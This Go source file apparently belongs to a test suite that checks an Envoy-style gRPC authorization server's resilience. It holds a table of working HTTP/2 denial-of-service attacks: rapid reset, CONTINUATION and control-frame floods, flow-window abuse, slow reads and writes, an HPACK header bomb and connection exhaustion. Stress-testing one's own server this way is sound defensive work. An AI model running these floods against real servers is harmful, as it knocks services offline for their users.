package transport

import (
	"bytes"
	"context"
	"encoding/binary"
	"io"
	"math"
	"net"
	"strconv"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
	"google.golang.org/protobuf/proto"
)

const (
	endStream  = 0x1
	endHeaders = 0x4
	ack        = 0x1
)

var attacks = []attack{
	{name: "rapid reset (CVE-2023-44487)", conns: 4, run: func(p *peer) {
		p.hello()
		p.flood(func(b []byte, id uint32) []byte {
			b = frame(b, http2.FrameHeaders, endHeaders, id, call)
			return word(b, http2.FrameRSTStream, id, 8)
		})
	}},
	{name: "rapid reset of checks", conns: 4, works: true, run: func(p *peer) {
		p.hello()
		p.flood(func(b []byte, id uint32) []byte {
			b = frame(b, http2.FrameHeaders, endHeaders, id, call)
			b = frame(b, http2.FrameData, endStream, id, question("/open/reset"+strconv.Itoa(int(id))))
			return word(b, http2.FrameRSTStream, id, 8)
		})
	}},
	{name: "resets that we are made to send (CVE-2025-8671)", conns: 4, run: func(p *peer) {
		p.hello()
		p.flood(func(b []byte, id uint32) []byte {
			b = frame(b, http2.FrameHeaders, endHeaders, id, call)
			return word(b, http2.FrameWindowUpdate, id, 0)
		})
	}},
	{name: "CONTINUATION, empty (CVE-2023-45288)", conns: 4, run: func(p *peer) {
		p.hello()
		p.write(frame(nil, http2.FrameHeaders, 0, 1, call))
		p.flood(func(b []byte, _ uint32) []byte { return frame(b, http2.FrameContinuation, 0, 1, nil) })
	}},
	{name: "CONTINUATION, full", conns: 4, run: func(p *peer) {
		p.hello()
		p.write(frame(nil, http2.FrameHeaders, 0, 1, call))
		p.flood(func(b []byte, _ uint32) []byte { return frame(b, http2.FrameContinuation, 0, 1, zeros) })
	}},
	{name: "PING (CVE-2019-9512)", conns: 4, run: flood(http2.FramePing, 0, 0, make([]byte, 8))},
	{name: "PING, answers unread", conns: 4, run: func(p *peer) {
		p.deaf = true
		flood(http2.FramePing, 0, 0, make([]byte, 8))(p)
	}},
	{name: "SETTINGS (CVE-2019-9515)", conns: 4, run: flood(http2.FrameSettings, 0, 0, nil)},
	{name: "PRIORITY (CVE-2019-9513)", conns: 4, run: flood(http2.FramePriority, 0, 1, []byte{0, 0, 0, 9, 1})},
	{name: "empty DATA (CVE-2019-9518)", conns: 4, run: func(p *peer) {
		p.hello()
		p.write(frame(nil, http2.FrameHeaders, endHeaders, 1, call))
		p.flood(func(b []byte, _ uint32) []byte { return frame(b, http2.FrameData, 0, 1, nil) })
	}},
	{name: "window: of nothing", conns: 4, run: flood(http2.FrameWindowUpdate, 0, 0, make([]byte, 4))},
	{name: "window: too much", conns: 4, run: flood(http2.FrameWindowUpdate, 0, 0, []byte{0x7f, 0xff, 0xff, 0xff})},
	{name: "window: byte by byte (CVE-2019-9511)", conns: 4, works: true, run: func(p *peer) {
		p.hello(http2.Setting{ID: http2.SettingInitialWindowSize, Val: 0})
		p.checks(100)
		p.flood(func(b []byte, id uint32) []byte { return word(b, http2.FrameWindowUpdate, id%200|1, 1) })
	}},
	{name: "window: none at all", conns: 20, works: true, run: func(p *peer) {
		p.hello(http2.Setting{ID: http2.SettingInitialWindowSize, Val: 0})
		p.checks(1000)
		p.wait()
	}},
	{name: "slow reads: none (CVE-2019-9517)", conns: 20, works: true, run: func(p *peer) {
		p.deaf = true
		p.hello(http2.Setting{ID: http2.SettingInitialWindowSize, Val: math.MaxInt32})
		p.write(word(nil, http2.FrameWindowUpdate, 0, math.MaxInt32-65535))
		p.flood(func(b []byte, id uint32) []byte {
			b = frame(b, http2.FrameHeaders, endHeaders, id, call)
			return frame(b, http2.FrameData, endStream, id, known)
		})
	}},
	{name: "slow writes", conns: 200, run: func(p *peer) {
		p.hello()
		p.drip(frame(nil, http2.FrameHeaders, endHeaders, 1, call))
	}},
	{name: "slow preface", conns: 200, run: func(p *peer) { p.drip([]byte(http2.ClientPreface)) }},
	{name: "header bomb (CVE-2016-1544)", conns: 4, run: func(p *peer) {
		p.hello()
		p.flood(func(b []byte, id uint32) []byte { return frame(b, http2.FrameHeaders, endHeaders, id, bomb) })
	}},
	{name: "idle connections", conns: 500, run: func(p *peer) {
		p.hello()
		p.wait()
	}},
	{name: "more connections than there may be", conns: 1500, run: func(p *peer) {
		p.hello()
		p.wait()
	}},
	{name: "streams never finished", conns: 20, run: func(p *peer) {
		p.hello()
		for id := uint32(1); id < 2000 && !p.dead; id += 2 {
			p.write(frame(frame(nil, http2.FrameHeaders, endHeaders, id, call), http2.FrameData, 0, id, known[:20]))
		}
		p.wait()
	}},
	{name: "large messages never finished", conns: 20, much: true, run: func(p *peer) {
		p.hello()
		for id := uint32(1); id < 200 && !p.dead; id += 2 {
			begin := append([]byte{0}, binary.BigEndian.AppendUint32(nil, 4<<20)...)
			p.write(frame(frame(nil, http2.FrameHeaders, endHeaders, id, call), http2.FrameData, 0, id, begin))
			for i := 0; i < 255 && !p.dead; i++ {
				p.write(frame(nil, http2.FrameData, 0, id, zeros))
			}
		}
		p.wait()
	}},
	{name: "huge frames", conns: 4, run: func(p *peer) {
		p.hello()
		p.write([]byte{0xff, 0xff, 0xff, byte(http2.FrameData), 0, 0, 0, 0, 1})
		p.flood(func(b []byte, _ uint32) []byte { return append(b, zeros...) })
	}},
	{name: "another protocol", conns: 4, run: func(p *peer) {
		p.write([]byte("GET / HTTP/1.1\r\nHost: a\r\n\r\n"))
		p.flood(func(b []byte, _ uint32) []byte { return append(b, "GET / HTTP/1.1\r\nHost: a\r\n\r\n"...) })
	}},
}

// peer is one connection of a hostile peer.
type peer struct {
	nc   net.Conn
	ctx  context.Context
	dead bool // a write failed
	deaf bool // it never reads
}

func (p *peer) write(b []byte) {
	if _, err := p.nc.Write(b); err != nil {
		p.dead = true
	}
}

// hello sends what a connection begins with, and from then on throws away what comes.
func (p *peer) hello(settings ...http2.Setting) {
	var payload []byte
	for _, s := range settings {
		payload = binary.BigEndian.AppendUint16(payload, uint16(s.ID))
		payload = binary.BigEndian.AppendUint32(payload, s.Val)
	}
	b := frame([]byte(http2.ClientPreface), http2.FrameSettings, 0, 0, payload)
	p.write(frame(b, http2.FrameSettings, ack, 0, nil))
	if !p.deaf {
		go func() { _, _ = io.Copy(io.Discard, p.nc) }()
	}
}

// flood sends as much as goes through, some dozen frames with one write.
func (p *peer) flood(add func(b []byte, id uint32) []byte) {
	var b []byte
	for id := uint32(1); !p.dead && id < math.MaxInt32; {
		for b = b[:0]; len(b) < 32<<10; id += 2 {
			b = add(b, id)
		}
		p.write(b)
	}
}

// flood is an attack with one frame.
func flood(kind http2.FrameType, flags byte, id uint32, payload []byte) func(p *peer) {
	return func(p *peer) {
		p.hello()
		p.flood(func(b []byte, _ uint32) []byte { return frame(b, kind, flags, id, payload) })
	}
}

// checks asks n times.
func (p *peer) checks(n uint32) {
	for id := uint32(1); id < 2*n && !p.dead; id += 2 {
		p.write(frame(frame(nil, http2.FrameHeaders, endHeaders, id, call), http2.FrameData, endStream, id, known))
	}
}

// wait holds the connection until it is closed, and sends nothing but what shows that.
func (p *peer) wait() {
	for !p.dead && p.pause(time.Second) {
		p.write(word(nil, http2.FrameWindowUpdate, 0, 1))
	}
}

// drip sends a byte a second, as slow as a peer may.
func (p *peer) drip(b []byte) {
	for i := 0; i < len(b) && !p.dead && p.pause(time.Second); i++ {
		p.write(b[i : i+1])
	}
}

// pause says whether the attack goes on.
func (p *peer) pause(d time.Duration) bool {
	select {
	case <-time.After(d):
		return true
	case <-p.ctx.Done():
		return false
	}
}

// frame appends a frame, which need not be a legal one.
func frame(b []byte, kind http2.FrameType, flags byte, id uint32, payload []byte) []byte {
	n := len(payload)
	b = append(b, byte(n>>16), byte(n>>8), byte(n), byte(kind), flags)
	return append(binary.BigEndian.AppendUint32(b, id), payload...)
}

// word appends a frame whose payload is one number.
func word(b []byte, kind http2.FrameType, id, n uint32) []byte {
	return frame(b, kind, 0, id, binary.BigEndian.AppendUint32(nil, n))
}

// call is the header block of a check. It leaves the table as it is.
var call = block(func(e *hpack.Encoder) {
	for _, f := range [][2]string{{":method", "POST"}, {":scheme", "http"}, {":path", "/envoy.service.auth.v3.Authorization/Check"},
		{":authority", "authz"}, {"te", "trailers"}, {"content-type", "application/grpc"}} {
		_ = e.WriteField(hpack.HeaderField{Name: f[0], Value: f[1], Sensitive: true})
	}
})

// bomb is a small block that decodes to 40 MB: one large field, named again 12,000 times.
var bomb = append(block(func(e *hpack.Encoder) {
	_ = e.WriteField(hpack.HeaderField{Name: "x", Value: string(bytes.Repeat([]byte("x"), 3400))})
}), bytes.Repeat([]byte{0x80 | 62}, 12000)...)

func block(write func(*hpack.Encoder)) []byte {
	var b bytes.Buffer
	write(hpack.NewEncoder(&b))
	return b.Bytes()
}

// question is a check as a gRPC message.
func question(path string) []byte {
	b, err := proto.Marshal(request(path))
	if err != nil {
		panic(err)
	}
	return append(binary.BigEndian.AppendUint32([]byte{0}, uint32(len(b))), b...)
}

var zeros = make([]byte, 16384)

var known = question("/open/known")
